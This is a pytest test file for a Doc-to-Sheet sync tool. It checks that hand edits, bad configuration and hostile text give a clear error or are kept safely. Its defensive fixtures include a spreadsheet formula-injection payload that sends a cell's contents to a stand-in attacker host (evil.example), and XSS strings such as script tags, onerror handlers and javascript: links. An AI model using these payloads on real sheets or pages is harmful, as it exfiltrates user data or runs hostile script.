"""Bad input, hand edits and hostile text: a clear one-line message, and nothing lost."""

from __future__ import annotations

import json
import re
import string
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
from conftest import Backend, CliResult
from faultsuite import trim_rows

from gdoc_sync.core.contributions import parse_session_doc
from gdoc_sync.core.model import (
    RANGE_CONTRIBUTION,
    RANGE_QUESTION,
    RANGE_SHEET,
    SessionConfig,
    Status,
)
from gdoc_sync.core.reconcile import sheet_text
from gdoc_sync.core.sheet import (
    CELL_LIMIT,
    CONFIG,
    CONFIG_ID,
    CONTRIBUTIONS,
    CONTRIBUTIONS_ID,
    FINAL_WORDING,
    HEADER,
    ID,
    INCLUDE,
    NOTE,
    PRIORITY,
    QUESTION,
    STATUS,
    TEXT,
    column_letter,
    parse_config,
    quote_sheet,
)
from gdoc_sync.core.template import load_template
from gdoc_sync.errors import SessionError
from gdoc_sync.google.api import GoogleApi
from gdoc_sync.google.connect import use_emulator
from gdoc_sync.local.journal import Journal
from gdoc_sync.local.state import LocalState
from gdoc_sync.report.markdown import md_line_start as md_escape
from gdoc_sync.workflows.create import CreateOptions, create_session
from gdoc_sync.workflows.note import add_note
from gdoc_sync.workflows.sync import SyncOptions, SyncResult, sync_session

TEMPLATE = "igf2025-ws354"
NOTES = (
    ("Q1", "Investors: Make HRDD part of every investment decision (Caroline Eriksen, UN)"),
    ("Q1", "CSO: Share case evidence of harms with investors (Amara Okafor, civil society)"),
    ("Q2", "Governments: Make HRDD laws cover investors (Zoë Ångström, civil society)"),
    ("online", "UN: Update B-Tech guidance on investor leverage (Priya Raman, UN, online)"),
)  # fmt: skip
CURATION = {"C0001": {FINAL_WORDING: "Make HRDD part of every decision", PRIORITY: "1"},
            "C0003": {NOTE: "check with Zoë"}}  # fmt: skip


@dataclass
class Session:
    """A session with four contributions synced and two rows curated, and ways to poke it."""

    backend: Backend
    api: GoogleApi
    document_id: str
    spreadsheet_id: str
    session_id: str

    @property
    def state(self) -> LocalState:
        return LocalState(self.backend.data_dir / "state")

    @property
    def journal(self) -> Journal:
        return Journal(self.backend.data_dir / "journal")

    def sync(self, **options: Any) -> SyncResult:
        return sync_session(
            self.api,
            self.document_id,
            state=self.state,
            journal=self.journal,
            options=SyncOptions(**options),
        )

    def note(self, question: str, text: str) -> None:
        add_note(self.api, self.document_id, question, text)

    def doc(self) -> dict[str, Any]:
        return self.api.get_document(self.document_id)

    def config(self) -> SessionConfig:
        return parse_config(self.api.get_values(self.spreadsheet_id, [quote_sheet(CONFIG)])[0])

    def header_and_rows(self, tab: str = CONTRIBUTIONS) -> tuple[list[str], list[list[str]]]:
        values = self.api.get_values(self.spreadsheet_id, [quote_sheet(tab)])[0]
        header = [str(h) for h in values[0]]
        rows = [[str(c) for c in r] + [""] * (len(header) - len(r)) for r in values[1:]]
        return header, [r for r in rows if any(r)]

    def rows_by_id(self, tab: str = CONTRIBUTIONS) -> dict[str, dict[str, str]]:
        header, rows = self.header_and_rows(tab)
        out: dict[str, dict[str, str]] = {}
        for row in rows:
            cells = dict(zip(header, row, strict=True))
            assert cells[ID] not in out, f"duplicate row {cells[ID]}"
            out[cells[ID]] = cells
        return out

    def update_doc(self, requests: list[dict[str, Any]]) -> None:
        self.api.update_document(self.document_id, requests)

    def paragraph(self, prefix: str) -> dict[str, Any]:
        for el in self.doc()["body"]["content"]:
            if _text(el).startswith(prefix):
                return el
        raise AssertionError(f"no paragraph starts with {prefix!r}")

    def retitle(self, prefix: str, new: str) -> None:
        el = self.paragraph(prefix)
        start, end = el["startIndex"], el["endIndex"] - 1
        self.update_doc(
            [
                {"deleteContentRange": {"range": {"startIndex": start, "endIndex": end}}},
                {"insertText": {"location": {"index": start}, "text": new}},
            ]
        )

    def set_cells(self, tab: str, cells: dict[str, Any]) -> None:
        self.api.update_values(
            self.spreadsheet_id,
            [{"range": f"{quote_sheet(tab)}!{a1}", "values": [[v]]} for a1, v in cells.items()],
        )

    def curated_intact(self) -> None:
        rows = self.rows_by_id()
        for cid, cells in CURATION.items():
            for name, value in cells.items():
                assert rows[cid][name] == value, (cid, name)

    def matches_doc(self) -> None:
        """Every contribution in the Doc has one row with its text; the others are removed."""
        parsed = parse_session_doc(self.doc(), self.config())
        rows = self.rows_by_id()
        for c in parsed.contributions:
            assert c.id in rows, c.text
            assert rows[c.id][TEXT] == sheet_text(c), c.id
            assert rows[c.id][QUESTION] == c.question_id, c.id
        for cid in set(rows) - {c.id for c in parsed.contributions}:
            assert rows[cid][STATUS] == Status.removed, cid


def _text(element: dict[str, Any]) -> str:
    runs = element.get("paragraph", {}).get("elements", [])
    return "".join(r.get("textRun", {}).get("content", "") for r in runs)


@pytest.fixture
def session(backend: Backend) -> Session:
    api = backend.api()
    created = create_session(api, load_template(TEMPLATE), CreateOptions(notify=False))
    trim_rows(api, created.spreadsheet_id, {CONTRIBUTIONS: 40, CONFIG: 40})
    s = Session(backend, api, created.document_id, created.spreadsheet_id, created.session_id)
    for question, text in NOTES:
        s.note(question, text)
    s.sync()
    header, _ = s.header_and_rows()
    number = {cid: i + 2 for i, cid in enumerate(s.rows_by_id())}
    s.set_cells(
        CONTRIBUTIONS,
        {
            f"{column_letter(header.index(name))}{number[cid]}": value
            for cid, cells in CURATION.items()
            for name, value in cells.items()
        },
    )
    return s


def one_line_error(result: CliResult) -> str:
    """The CLI failed with exactly one `error: ...` line, last on stderr; returns the message."""
    assert result.exit_code != 0, result.stdout
    assert "Traceback" not in result.stderr
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert lines and lines[-1].startswith("error: "), result.stderr
    assert sum(line.startswith("error:") for line in lines) == 1, result.stderr
    return lines[-1]


Cli = Callable[..., CliResult]


# -- the Doc's structure edited by hand -----------------------------------------------------------


def test_renamed_heading_is_still_found_by_its_named_range(session: Session, cli: Cli) -> None:
    session.retitle("Q1.", "Investor responsibility")
    session.note("Q1", "Tech companies: Publish impact assessments (Lee Wong, UN)")
    result = cli("sync", session.document_id)
    assert result.exit_code == 0, result.stderr
    assert "1 added" in result.stdout
    session.matches_doc()
    assert [r[QUESTION] for r in session.rows_by_id().values()].count("Q1") == 3
    session.curated_intact()


def test_deleted_heading_is_still_found_by_its_named_range(session: Session) -> None:
    el = session.paragraph("Q2.")
    session.update_doc(
        [
            {
                "deleteContentRange": {
                    "range": {"startIndex": el["startIndex"], "endIndex": el["endIndex"]}
                }
            }
        ]
    )
    session.note("Q2", "Investors: Ask index providers about HRDD (Fatima Zahra, investors)")
    result = session.sync()
    assert [c.question_id for c in result.plan.added] == ["Q2"]
    assert not result.plan.removed
    session.matches_doc()


def test_swapped_headings_do_not_move_contributions(session: Session) -> None:
    """Headings are for people; the named ranges say which section is which."""
    session.retitle("Q1.", "Q2. (moved here by someone)")
    session.retitle("Q2.", "Q1. (moved here by someone)")
    result = session.sync(force=True)
    assert not result.plan.edited and not result.plan.removed
    rows = session.rows_by_id()
    assert [rows[c][QUESTION] for c in ("C0001", "C0002", "C0003")] == ["Q1", "Q1", "Q2"]


def test_deleted_named_range_falls_back_to_the_heading(session: Session, cli: Cli) -> None:
    session.update_doc([{"deleteNamedRange": {"name": RANGE_QUESTION + "Q1"}}])
    session.note("Q2", "Investors: Ask index providers about HRDD (Fatima Zahra, investors)")
    result = cli("sync", session.document_id)
    assert result.exit_code == 0, result.stderr
    assert "section found by its heading" in result.stderr
    rows = session.rows_by_id()
    assert rows["C0001"][STATUS] == Status.in_doc and rows["C0001"][QUESTION] == "Q1"
    session.matches_doc()
    session.curated_intact()


def test_lost_section_does_not_mark_its_contributions_removed(session: Session) -> None:
    session.update_doc([{"deleteNamedRange": {"name": RANGE_QUESTION + "Q2"}}])
    session.retitle("Q2.", "Conditions for investor HRDD")
    result = session.sync()
    assert any("Q2" in p and "not read" in p for p in result.problems)
    assert session.rows_by_id()["C0003"][STATUS] == Status.in_doc


def test_lost_section_loses_nothing_once_its_heading_is_back(session: Session) -> None:
    session.update_doc([{"deleteNamedRange": {"name": RANGE_QUESTION + "Q2"}}])
    session.retitle("Q2.", "Conditions for investor HRDD")
    session.sync()
    session.retitle("Conditions for investor HRDD", "Q2. Conditions for investor HRDD")
    result = session.sync()
    assert result.plan.restored == [] and result.plan.removed == []  # never left the Sheet
    rows = session.rows_by_id()
    assert rows["C0003"][STATUS] == Status.in_doc
    assert rows["C0003"][NOTE] == "check with Zoë"
    session.matches_doc()


def test_removed_anchors_are_found_again_by_their_words(session: Session) -> None:
    names = [n for n in session.doc()["namedRanges"] if n.startswith(RANGE_CONTRIBUTION)]
    assert len(names) == len(NOTES)
    session.update_doc([{"deleteNamedRange": {"name": n}} for n in names])
    result = session.sync()
    assert not result.plan.added and not result.plan.removed
    assert result.anchored == len(NOTES)
    assert sorted(session.rows_by_id()) == ["C0001", "C0002", "C0003", "C0004"]
    session.matches_doc()
    session.curated_intact()


def test_sheet_named_range_removed(session: Session, cli: Cli, backend: Backend) -> None:
    """This machine remembers the Sheet; a fresh one is told the Doc names none."""
    name = next(n for n in session.doc()["namedRanges"] if n.startswith(RANGE_SHEET))
    session.update_doc([{"deleteNamedRange": {"name": name}}])
    session.note("Q3", "Governments: Fund research on tech risks (Mei Lin, civil society)")
    assert len(session.sync().plan.added) == 1
    fresh = backend.data_dir.parent / "fresh"  # another laptop: no local state, same Google
    with use_emulator(fresh / "emulator", backend.emulator):
        result = cli("sync", session.document_id, env={"GDOC_SYNC_DATA_DIR": str(fresh)})
    assert "names no companion Sheet" in one_line_error(result)
    session.matches_doc()


def test_a_doc_that_is_not_a_session(backend: Backend, cli: Cli) -> None:
    api = backend.api()
    doc = api.clients.docs.documents().create(body={"title": "Shopping list"}).execute()
    api.update_document(
        doc["documentId"], [{"insertText": {"location": {"index": 1}, "text": "Milk\nEggs\n"}}]
    )
    message = one_line_error(cli("sync", doc["documentId"]))
    assert "is not a gdoc-sync session Doc" in message
    message = one_line_error(cli("finalize", doc["documentId"]))
    assert "is not a gdoc-sync session Doc" in message


def test_a_sheets_url_is_refused_with_a_message(session: Session, cli: Cli) -> None:
    url = f"https://docs.google.com/spreadsheets/d/{session.spreadsheet_id}/edit#gid=0"
    for command in ("sync", "note", "finalize", "report", "export"):
        args = [command, url] + (["-q", "Q1", "text"] if command == "note" else [])
        result = cli(*args)
        assert result.exit_code != 0
        assert "is a Google Sheets URL" in result.stderr, result.stderr
        assert len([x for x in result.stderr.splitlines() if x.strip()]) == 1, result.stderr
    assert "is not a Google Docs document URL" in cli("sync", "https://example.org/d/x").stderr


def test_a_document_the_account_cannot_see(session: Session, cli: Cli) -> None:
    missing = "1" + "x" * 43
    for args in (("sync", missing), ("note", missing, "-q", "Q1", "hi"), ("export", missing)):
        result = cli(*args)
        assert result.exit_code == 3, result.stderr
        assert "not found, or this account cannot see it" in one_line_error(result)


# -- the Sheet edited by hand ---------------------------------------------------------------------


def test_config_tab_deleted(session: Session, cli: Cli) -> None:
    session.api.update_spreadsheet(
        session.spreadsheet_id, [{"deleteSheet": {"sheetId": CONFIG_ID}}]
    )
    session.note("Q3", "Governments: Fund research on tech risks (Mei Lin, civil society)")
    before = session.rows_by_id()
    for command in ("sync", "finalize"):
        message = one_line_error(cli(command, session.document_id))
        assert "no 'gdoc-sync config' tab: was it deleted?" in message
    assert session.rows_by_id() == before


def _config_row(session: Session, kind: str, key: str | None = None) -> int:
    values = session.api.get_values(session.spreadsheet_id, [quote_sheet(CONFIG)])[0]
    for number, row in enumerate(values, start=1):
        if row and row[0] == kind and (key is None or (len(row) > 1 and row[1] == key)):
            return number
    raise AssertionError(kind)


@pytest.mark.parametrize(
    ("kind", "key", "column", "value", "message"),
    [
        ("group", "un", "C", "", r"row {row}: a group row needs a key \(B\) and a name \(C\)"),
        ("group", "investors", "B", "", r"row {row}: a group row needs a key"),
        ("question", "Q2", "C", "", r"row {row}: a question row needs an id \(B\) and its text"),
        ("question", "Q3", "D", "[not json", r"row {row}: column D must be a JSON list"),
        ("format_version", None, "B", "two", r"format_version 'two' is not a number"),
        ("format_version", None, "B", "99", r"format version 99 is newer"),
        ("document_id", None, "B", "", r"has no 'document_id' row"),
        ("facts", None, "B", "{oops", r"the facts row is not valid JSON"),
    ],
)
def test_config_tab_edited_by_hand(
    session: Session, cli: Cli, kind: str, key: str | None, column: str, value: str, message: str
) -> None:
    row = _config_row(session, kind, key)
    session.set_cells(CONFIG, {f"{column}{row}": value})
    session.note("Q3", "Governments: Fund research on tech risks (Mei Lin, civil society)")
    before = session.rows_by_id()
    text = one_line_error(cli("sync", session.document_id))
    assert re.search(message.format(row=row), text), text
    assert "'gdoc-sync config'" in text
    assert session.rows_by_id() == before


def test_config_naming_another_doc(session: Session, cli: Cli) -> None:
    other = "1" + "y" * 43
    session.set_cells(CONFIG, {f"B{_config_row(session, 'document_id')}": other})
    session.note("Q3", "Governments: Fund research on tech risks (Mei Lin, civil society)")
    before = session.rows_by_id()
    message = one_line_error(cli("sync", session.document_id))
    assert f"belongs to document {other}" in message
    assert session.rows_by_id() == before


def test_contributions_tab_renamed_still_syncs(session: Session, cli: Cli) -> None:
    """A renamed tab is no bad input: it is found by the sheetId create gave it."""
    session.api.update_spreadsheet(
        session.spreadsheet_id,
        [
            {
                "updateSheetProperties": {
                    "properties": {"sheetId": CONTRIBUTIONS_ID, "title": "Beiträge"},
                    "fields": "title",
                }
            }
        ],
    )
    session.note("Q3", "Governments: Fund research on tech risks (Mei Lin, civil society)")
    synced = cli("sync", session.document_id)
    assert synced.exit_code == 0, synced.stderr
    renamed = session.rows_by_id("Beiträge")
    assert sorted(renamed) == ["C0001", "C0002", "C0003", "C0004", "C0005"]
    assert renamed["C0005"][TEXT] == "Fund research on tech risks"
    assert renamed["C0001"][PRIORITY] == "1"


def test_contributions_header_changed(session: Session, cli: Cli) -> None:
    """A renamed header of a column sync cannot recognise by its cells (its rows' records
    fingerprint only the cells a person may correct) stops sync, naming it."""
    header, _ = session.header_and_rows()
    session.set_cells(CONTRIBUTIONS, {f"{column_letter(header.index('First seen'))}1": "Noted at"})
    session.note("Q3", "Governments: Fund research on tech risks (Mei Lin, civil society)")
    message = one_line_error(cli("sync", session.document_id))
    assert "has no column 'First seen'" in message and "Noted at" in message
    assert len(session.rows_by_id()) == len(NOTES)


def test_the_header_error_suggests_a_command_that_exists(session: Session, cli: Cli) -> None:
    header, _ = session.header_and_rows()
    session.set_cells(CONTRIBUTIONS, {f"{column_letter(header.index('First seen'))}1": "Noted at"})
    session.note("Q3", "Governments: Fund research on tech risks (Mei Lin, civil society)")
    message = one_line_error(cli("sync", session.document_id))
    suggested = re.search(r"`gdoc-sync (sync [^`]*)`", message)
    if suggested is None:
        return  # no command suggested: nothing to check
    args = [*suggested.group(1).split(), session.document_id]
    result = cli(*args)
    assert "No such option" not in result.stderr, result.stderr


def _rewrite_tab(session: Session, order: list[str]) -> None:
    """Put the Contributions columns in another order, cells moving with their column."""
    header, rows = session.header_and_rows()
    index = [header.index(name) for name in order]
    values = [[header[i] for i in index], *[[r[i] for i in index] for r in rows]]
    last = column_letter(len(order) - 1)
    session.api.update_values(
        session.spreadsheet_id,
        [{"range": f"{quote_sheet(CONTRIBUTIONS)}!A1:{last}{len(values)}", "values": values}],
    )


def test_columns_reordered_sync_writes_to_the_right_columns(session: Session, cli: Cli) -> None:
    order = [NOTE, STATUS, TEXT, ID, *[h for h in HEADER if h not in (NOTE, STATUS, TEXT, ID)]]
    _rewrite_tab(session, order)
    session.note("Q3", "Governments: Fund research on tech risks (Mei Lin, civil society)")
    session.update_doc(
        [
            {
                "replaceAllText": {
                    "containsText": {"text": "case evidence", "matchCase": True},
                    "replaceText": "documented evidence",
                }
            }
        ]
    )
    result = cli("sync", session.document_id)
    assert result.exit_code == 0, result.stderr
    assert session.header_and_rows()[0] == order
    rows_by_id = session.rows_by_id()
    assert rows_by_id["C0005"][QUESTION] == "Q3"
    assert rows_by_id["C0005"][STATUS] == Status.in_doc
    assert rows_by_id["C0002"][STATUS] == Status.edited
    assert "documented evidence" in rows_by_id["C0002"][TEXT]
    session.matches_doc()
    session.curated_intact()


def test_rows_sorted_sync_updates_the_right_rows(session: Session) -> None:
    header, rows = session.header_and_rows()
    session.api.update_spreadsheet(
        session.spreadsheet_id,
        [
            {
                "sortRange": {
                    "range": {
                        "sheetId": CONTRIBUTIONS_ID,
                        "startRowIndex": 1,
                        "endRowIndex": len(rows) + 1,
                        "startColumnIndex": 0,
                        "endColumnIndex": len(header),
                    },
                    "sortSpecs": [
                        {"dimensionIndex": header.index(TEXT), "sortOrder": "DESCENDING"}
                    ],
                }
            }
        ],
    )
    assert [r[0] for r in session.header_and_rows()[1]] != ["C0001", "C0002", "C0003", "C0004"]
    el = session.paragraph("CSO: Share")
    session.update_doc(
        [
            {
                "updateTextStyle": {
                    "range": {"startIndex": el["startIndex"], "endIndex": el["endIndex"] - 1},
                    "textStyle": {"strikethrough": True},
                    "fields": "strikethrough",
                }
            }
        ]
    )
    session.note("Q4", "Investors: Publish engagement outcomes (Ana Silva, investors)")
    result = session.sync()
    assert [c.id for c in result.plan.withdrawn] == ["C0002"]
    rows_by_id = session.rows_by_id()
    assert rows_by_id["C0002"][STATUS] == Status.withdrawn
    assert rows_by_id["C0005"][QUESTION] == "Q4"
    assert all(r[STATUS] == Status.in_doc for c, r in rows_by_id.items() if c != "C0002")
    session.matches_doc()
    session.curated_intact()


def test_merged_cells(session: Session) -> None:
    header, _ = session.header_and_rows()

    def merge(name: str, first: int, last: int) -> dict[str, Any]:
        column = header.index(name)
        span = {"startRowIndex": first, "endRowIndex": last + 1}
        cols = {"startColumnIndex": column, "endColumnIndex": column + 1}
        return {"mergeCells": {"range": {"sheetId": CONTRIBUTIONS_ID, **span, **cols}}}

    session.api.update_spreadsheet(
        session.spreadsheet_id, [merge(STATUS, 1, 2), merge(INCLUDE, 3, 4)]
    )
    el = session.paragraph("CSO: Share")
    session.update_doc(
        [
            {
                "updateTextStyle": {
                    "range": {"startIndex": el["startIndex"], "endIndex": el["endIndex"] - 1},
                    "textStyle": {"strikethrough": True},
                    "fields": "strikethrough",
                }
            }
        ]
    )
    session.note("Q1", "Tech companies: Publish impact assessments (Lee Wong, UN)")
    try:
        session.sync()
    except SessionError as exc:  # refusing is fine, if it says why on one line
        assert "\n" not in str(exc) and "merged" in str(exc)
        return
    session.matches_doc()
    assert session.rows_by_id()["C0002"][STATUS] == Status.withdrawn
    session.curated_intact()


def test_formulas_typed_into_sync_columns_are_a_persons_overrides_kept_and_said(
    session: Session,
) -> None:
    """A formula typed over sync's cells is a person's edit like any other: sync keeps it, says
    so in the row's Sync note and in its output, and never turns it back silently."""
    header, _ = session.header_and_rows()
    text_col, status_col = column_letter(header.index(TEXT)), column_letter(header.index(STATUS))
    session.api.clients.sheets.http_client.values_batch_update(
        session.spreadsheet_id,
        {
            "valueInputOption": "USER_ENTERED",
            "data": [
                {"range": f"{quote_sheet(CONTRIBUTIONS)}!{text_col}2", "values": [["=1+1"]]},
                {"range": f"{quote_sheet(CONTRIBUTIONS)}!{status_col}3", "values": [['=""']]},
            ],
        },
    )
    session.note("Q3", "Governments: Fund research on tech risks (Mei Lin, civil society)")
    result = session.sync()
    formulas = _values(session, f"{text_col}2:{status_col}3", "FORMULA")
    assert formulas[0][0] == "=1+1" and formulas[1][-1] == '=""'
    rows = session.rows_by_id()
    assert rows["C0001"]["Sync note"] == (
        "Contribution kept as typed in the Sheet (the Doc says: Make HRDD part of every "
        "investment decision)"
    )
    assert rows["C0002"]["Sync note"] == "Status kept as typed in the Sheet (the Doc says: in doc)"
    kept = "C0001: Contribution '2' typed in the Sheet is kept"
    assert any(p.startswith(kept) for p in result.problems), result.problems
    session.curated_intact()


def test_a_formula_over_a_contribution_does_not_mark_it_edited(session: Session) -> None:
    header, _ = session.header_and_rows()
    cell = f"{quote_sheet(CONTRIBUTIONS)}!{column_letter(header.index(TEXT))}2"
    session.api.clients.sheets.http_client.values_batch_update(
        session.spreadsheet_id,
        {"valueInputOption": "USER_ENTERED", "data": [{"range": cell, "values": [["=1+1"]]}]},
    )
    session.sync(force=True)
    assert session.rows_by_id()["C0001"][STATUS] == Status.in_doc


def _values(session: Session, a1: str, render: str) -> list[list[Any]]:
    data = session.api.clients.sheets.http_client.values_batch_get(
        session.spreadsheet_id,
        [f"{quote_sheet(CONTRIBUTIONS)}!{a1}"],
        params={"valueRenderOption": render},
    )
    return data["valueRanges"][0].get("values", [])


# -- hostile and extreme text ---------------------------------------------------------------------

FORMULA_LIKE = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click me")',
    "+1 555 0100 is the hotline number",
    "-2 degrees is the target, said the minister",
    "@everyone should read the OECD guidance",
    '=IMPORTXML("https://evil.example","//a")',
)


def test_formula_like_contributions_are_stored_as_text(session: Session, cli: Cli) -> None:
    for text in FORMULA_LIKE:
        session.note("Q4", text)
    assert cli("sync", session.document_id).exit_code == 0
    rows = session.rows_by_id()
    new = sorted(set(rows) - {"C0001", "C0002", "C0003", "C0004"})
    assert [rows[c][TEXT] for c in new] == list(FORMULA_LIKE)
    header, _ = session.header_and_rows()
    col = column_letter(header.index(TEXT))
    span = f"{col}6:{col}{5 + len(FORMULA_LIKE)}"
    assert [r[0] for r in _values(session, span, "FORMULA")] == list(FORMULA_LIKE)
    assert [r[0] for r in _values(session, span, "UNFORMATTED_VALUE")] == list(FORMULA_LIKE)
    grid = session.api.get_spreadsheet(
        session.spreadsheet_id,
        fields="sheets.data.rowData.values.userEnteredValue",
        ranges=[f"{quote_sheet(CONTRIBUTIONS)}!{span}"],
    )
    entered = [
        row["values"][0]["userEnteredValue"] for row in grid["sheets"][0]["data"][0]["rowData"]
    ]
    assert entered == [{"stringValue": text} for text in FORMULA_LIKE]
    csv_text = cli("report", session.document_id, "--format", "csv").stdout
    assert "\n=" not in csv_text and ",=" not in csv_text


def test_a_50000_character_paragraph(session: Session) -> None:
    body = ("Investors should publish their human rights due diligence policies. " * 900)[:60_000]
    session.note("Q3", f"Investors: {body}")
    exact = "x" * CELL_LIMIT
    session.note("Q4", exact)
    session.sync()
    rows = session.rows_by_id()
    cut = rows["C0005"][TEXT]
    assert len(cut) <= CELL_LIMIT
    assert cut.startswith(body[:1000])
    assert re.search(r"\[…cut: \d+ more characters are in the Doc and the journal\]$", cut)
    assert rows["C0006"][TEXT] == exact  # at the limit: kept whole
    last = [e for e in session.journal.entries(session.document_id) if "contributions" in e][-1]
    kept = {c["id"]: c for c in last["contributions"]}
    assert kept["C0005"]["body"] == body
    assert kept["C0006"]["text"] == exact
    matrix = session.api.get_values(session.spreadsheet_id, [quote_sheet("Matrix")])[0]
    assert all(len(str(cell)) <= CELL_LIMIT for row in matrix for cell in row)
    assert session.sync(force=True).plan.edited == []  # the cut text is stable


TRICKY = (
    "Investors: fund \u202eevil\u202c text and \u2067isolated\u2069 runs (Ana Silva, investors)",
    "CSO: zero\u200dwidth\u200cjoiners and\u200bspaces\ufeff stay (Mei Lin, civil society)",
    "UN: 👩‍👩‍👧‍👦 families, 🇺🇦 flags, 👍🏽 skin tones, 🏳️‍🌈 and 1️⃣ keycaps",
    "Governments: combining a\u0301 e\u0308 and 한국어 and العربية",
)


def test_control_bidi_zero_width_and_emoji_text(session: Session) -> None:
    for text in TRICKY:
        session.note("Q2", text)
    session.update_doc(
        [
            {
                "insertText": {
                    "location": {"index": session.paragraph("UN: Update")["startIndex"] + 4},
                    "text": "bell\x07 escape\x1b[31m nul\x00 ",
                }
            }
        ]
    )
    first = session.sync()
    assert len(first.plan.added) == len(TRICKY)
    session.matches_doc()
    rows = session.rows_by_id()
    assert "\u202eevil\u202c" in rows["C0005"][TEXT] and "\u2067" in rows["C0005"][TEXT]
    assert "zero\u200dwidth\u200cjoiners and\u200bspaces\ufeff" in rows["C0006"][TEXT]
    assert "👩‍👩‍👧‍👦" in rows["C0007"][TEXT] and "🏳️‍🌈" in rows["C0007"][TEXT]
    assert "a\u0301 e\u0308" in rows["C0008"][TEXT]  # not normalised
    assert "bell escape[31m nul" in rows["C0004"][TEXT]  # what Docs kept of the controls
    again = session.sync(force=True)
    assert not again.plan.added and not again.plan.edited and not again.plan.removed
    assert sorted(session.rows_by_id()) == [f"C{n:04d}" for n in range(1, 9)]


def _parsed(session: Session) -> list[Any]:
    return parse_session_doc(session.doc(), session.config()).contributions


MARKUP = (
    "Investors: <script>alert('x')</script> and <img src=x onerror=alert(1)> (Ana Silva)",
    "CSO: **bold** _it_ `code` [click](javascript:alert(1)) ![img](https://evil.example/x.png)",
    "UN: line one\u000b## Action points (calls to action)\u000b| a | b |\u000b---\u000b> quote",
    "Governments: 1. not a list &amp; &lt;b&gt; # not a heading <!-- comment -->",
)


def test_markup_is_escaped_in_the_report_and_the_export(session: Session, cli: Cli) -> None:
    for text in MARKUP:
        session.note("Q1", text)
    assert cli("sync", session.document_id).exit_code == 0
    assert cli("finalize", session.document_id).exit_code == 0
    report = cli("report", session.document_id, "--format", "md")
    assert report.exit_code == 0, report.stderr
    md = report.stdout
    # Only what changes meaning is escaped: a tag's "<"; a ">" only at a line's start.
    assert not re.search(r"(?<!\\)<[A-Za-z/!?]", md), "unescaped tag"
    assert not re.search(r"(?<!\\)\]\(javascript:", md)
    assert "**bold**" not in md and "`code`" not in md
    headings = [line for line in md.splitlines() if line.startswith("#")]
    assert not any("(calls to action)" in line for line in headings)  # the typed one is no heading
    assert not any(line.lstrip().startswith(("| a", "> quote", "---")) for line in md.splitlines())
    for line in md.splitlines():  # every line is one of the report's own structures
        assert not line or re.match(r"^(#{1,4} |- |  - |\d+\. |\| |\*\*[A-Z]|[A-Z][a-z]+)", line), (
            line
        )
    data = json.loads(cli("report", session.document_id, "--format", "json").stdout)
    texts = [p["text"] for q in data["policy_questions"] for p in q["points"]]
    assert any("<script>alert('x')</script>" in t for t in texts)  # the data itself is verbatim
    export = cli("export", session.document_id, "--format", "html")
    assert export.exit_code == 0, export.stderr
    page = export.stdout
    assert "<script" not in page.lower().replace("&lt;script", "")
    assert "&lt;script&gt;alert(" in page
    assert "onerror=alert(1)>" not in page and "<img src=x" not in page
    assert 'href="javascript:' not in page.lower()
    export_md = cli("export", session.document_id, "--format", "md").stdout
    assert not re.search(r"(?<!\\)[<>]", export_md), "unescaped angle bracket"
    assert not re.search(r"(?<!\\)\]\(javascript:", export_md)


def test_report_escapes_a_numbered_line_without_a_visible_backslash() -> None:
    escaped = md_escape("1. not a list")
    assert not re.match(r"\s*\d+[.)](\s|$)", escaped)  # still no ordered list
    assert all(ch in string.punctuation for ch in re.findall(r"\\(.)", escaped)), escaped
